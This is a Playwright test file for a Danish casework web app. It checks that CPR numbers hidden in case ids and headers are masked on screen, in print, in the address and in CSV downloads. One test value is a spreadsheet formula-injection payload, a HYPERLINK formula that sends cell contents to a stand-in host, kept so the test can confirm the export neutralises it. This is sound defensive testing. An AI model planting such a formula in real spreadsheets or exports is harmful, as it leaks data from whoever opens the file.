import { expect, test, type Page } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { settledUrl } from './address.ts';

/*
 * A hostile export opened as a person does, on the Danish page: ids with a
 * CPR number inside them, CPR numbers written with a space, an en dash or a
 * non-breaking hyphen, a caseworker's name that is a spreadsheet formula
 * with a line break, and a header that is a CPR number. No CPR number may
 * reach the page, a download or the address, and no formula a download.
 */

/** Six digits and four that no digit touches, with or without a gap of any kind a CPR number is written with. */
const CPR_LIKE = /(?<!\d)\d{6}[\-\u2010-\u2015\u2212\ufe58\ufe63\uff0d\s]?\d{4}(?!\d)/;
const FORMULA = '=HYPERLINK("https://x.example/?d="&A1,"klik")\nAB';
/** Accepted, masked and numbered (`C••••••-•••• #1`, `#2`): two children, two cases. */
const IDS = ['Barn 0101901234', '0101901234-1', 'C0101901234', 'C0202901234'];
/** Rejected: a CPR number with a gap, inside an id. */
const REJECTED = ['Barn 010190 1234', 'Barn 010190\u20131234', 'Barn 010190\u20111234'];

function exportText(): string {
  const csvField = (v: string) => `"${v.replace(/"/g, '""')}"`;
  const lines = ['sagsnr;foranstaltning;enhed;sagsbehandler;foranstaltningstype;hændelse;dato'];
  IDS.forEach((id, i) => lines.push(`${id};F1;Østerbro;${i === 0 ? csvField(FORMULA) : 'CD'};anbringelse 010190\u20111234;iværksat;2024-0${i + 1}-01`));
  REJECTED.forEach((id, i) => lines.push(`${id};F1;Østerbro;CD;forebyggende;iværksat;2024-0${i + 1}-02`));
  lines.push('S999;F999;Amager;CD;anbringelse;iværksat;2025-06-30');
  return lines.join('\r\n');
}

async function chooseFile(page: Page, name: string, body: string) {
  const chooser = page.waitForEvent('filechooser');
  await page.getByRole('banner').getByRole('button', { name: 'Åbn fil' }).click();
  await (await chooser).setFiles({ name, mimeType: 'text/csv', buffer: Buffer.from(body) });
}

async function noCprOnPage(page: Page) {
  const text = await page.locator('body').innerText();
  expect(text).not.toMatch(CPR_LIKE);
  expect(text).not.toContain('010190');
  // The audit's fresh seed (aseed) has at most nine digits, so the whole address is checked.
  expect(JSON.stringify([...(await settledUrl(page)).searchParams])).not.toMatch(CPR_LIKE);
}

test('ids holding a CPR number are masked on every view, in the address and in a download, and a formula in a name downloads as text', async ({ page }) => {
  await page.goto('/?lang=da');
  await chooseFile(page, 'udtraek.csv', exportText());
  const report = page.getByTestId('validation-report');
  await expect(report).toBeVisible({ timeout: 30_000 });
  await expect(page.getByTestId('fact-rejected')).toHaveText('3');
  const groups = await report.locator('summary').all();
  for (const summary of groups) await summary.click();
  // A group builds its table when it is opened: read the report once every one has.
  await expect(report.locator('details[open] table')).toHaveCount(groups.length);
  await expect(report).toContainText('ligner et CPR-nummer (vises ikke)');
  await noCprOnPage(page);

  for (const link of await page.getByRole('navigation', { name: 'Visninger' }).getByRole('link').all()) {
    await link.click();
    await expect(page.locator('main')).toBeVisible();
    await noCprOnPage(page);
    // On paper too: the print-only sheets (the board's, the plan's) show what the screen hides.
    await page.emulateMedia({ media: 'print' });
    await noCprOnPage(page);
    await page.emulateMedia({ media: 'screen' });
  }

  await page.getByRole('navigation', { name: 'Visninger' }).getByRole('link', { name: 'Arbejdsbyrde' }).click();
  const list = page.getByRole('region', { name: 'Alle overskredne opfølgninger' });
  await expect(list).toBeVisible({ timeout: 30_000 });
  const cases = list.locator('tbody tr').getByRole('rowheader');
  await expect(cases).toHaveText(['Barn ••••••-•••• #1', '••••••-••••-1 #1', 'C••••••-•••• #1', 'C••••••-•••• #2']);
  await noCprOnPage(page);

  const download = page.waitForEvent('download');
  await list.getByRole('button', { name: 'Hent alle overskredne opfølgninger (CSV)' }).click();
  const csv = readFileSync((await (await download).path())!, 'utf8');
  expect(csv).not.toMatch(CPR_LIKE);
  expect(csv).toContain('C••••••-•••• #2;');
  // The caseworker's formula, line break and all, is text behind an apostrophe: no cell starts with = + - @.
  expect(csv).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
  const cells = csv.replace(/^\ufeff/, '').split(/;|\r\n/);
  expect(cells.filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);
});

test('a header that is a CPR number is asked about once, and the file is read with the column chosen', async ({ page }) => {
  const body = '010190-1234;020290-4321;Team;Hvad;Hvornår\nS1;F1;Øst;iværksat;02.01.2025\nS2;F2;Vest;iværksat;15.01.2025\n';
  await page.goto('/?lang=da');
  await chooseFile(page, 'kolonner.csv', body);
  const question = page.getByRole('heading', { name: 'Hvilken kolonne indeholder hvad?' });
  await expect(question).toBeVisible({ timeout: 30_000 });
  await noCprOnPage(page);
  // Both CPR headers are shown as the same mask; the sample values tell them apart.
  for (const [field, sample] of [['Sagsnummer', 'S1'], ['Foranstaltning', 'F1'], ['Enhed', 'Øst'], ['Hændelse', 'iværksat'], ['Dato', '02.01.2025']] as const) {
    const select = page.getByLabel(new RegExp(`^${field} \\(påkrævet\\)`));
    const label = (await select.locator('option').allTextContents()).find((t) => t.includes(sample))!;
    await select.selectOption({ label });
  }
  await page.getByRole('button', { name: 'Læs med disse kolonner' }).click();
  await expect(page.getByRole('rowheader', { name: 'Øst' })).toBeVisible({ timeout: 30_000 });
  await expect(question).toHaveCount(0);
  await noCprOnPage(page);
});
